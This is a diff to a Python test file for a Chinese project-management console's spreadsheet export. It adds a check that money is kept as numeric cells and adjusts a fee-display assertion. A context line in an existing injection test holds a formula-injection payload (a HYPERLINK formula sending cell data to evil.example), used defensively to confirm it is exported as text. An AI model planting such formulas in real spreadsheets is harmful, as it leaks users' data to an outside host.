@@ -100,6 +100,17 @@ async def test_the_list_sorts_and_exports_what_it_shows(console) -> None:
     assert sorted(row[1] for row in sheet.iter_rows(min_row=2, values_only=True)) == ["城西科创产业园", "留下物流中心"]
 
 
+async def test_the_export_keeps_money_as_numbers_that_sum(console) -> None:
+    await apply_project_changes(console.sessions, [project_changed(n, stage="signed", total_investment_fen=fen)
+                                                   for n, fen in ((1, 120_000_000_00), (2, 2_500_050_00))], NOW)
+    export = await (await console.signed_in("office")).get("/projects.xlsx")
+    sheet = load_workbook(io.BytesIO(export.content)).active
+    header = [c.value for c in sheet[1]]
+    cells = [row[header.index("总投资(万元)")] for row in sheet.iter_rows(min_row=2)]
+    assert sorted(c.value for c in cells) == [250.005, 12000] and {c.data_type for c in cells} == {"n"}
+    assert {c.number_format for c in cells} == {"#,##0.00"}
+
+
 async def test_the_list_export_writes_formula_looking_county_text_as_text(console) -> None:
     injected = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
     await apply_project_changes(console.sessions, [project_changed(4, name=injected, stage="signed", leader="@SUM(1)",
@@ -161,7 +172,7 @@ async def test_overview_rankings_idle_land_and_bulletins(console) -> None:
     rankings = (await office.get("/rankings")).text
     assert "转塘街道" in rankings and "52/80" in rankings
     idle = (await office.get("/idle-land")).text
-    assert "P-1" in idle and "1,000,000.00" in idle and "征收闲置费" in idle
+    assert "P-1" in idle and "100.00万元" in idle and "征收闲置费" in idle  # the idle fee of 1,000,000.00 元
     assert "2026-02重点项目通报" in (await office.get("/bulletins")).text
     assert "330106 2026-02.html" in (await office.get("/bulletins/2026-02.html")).text
 
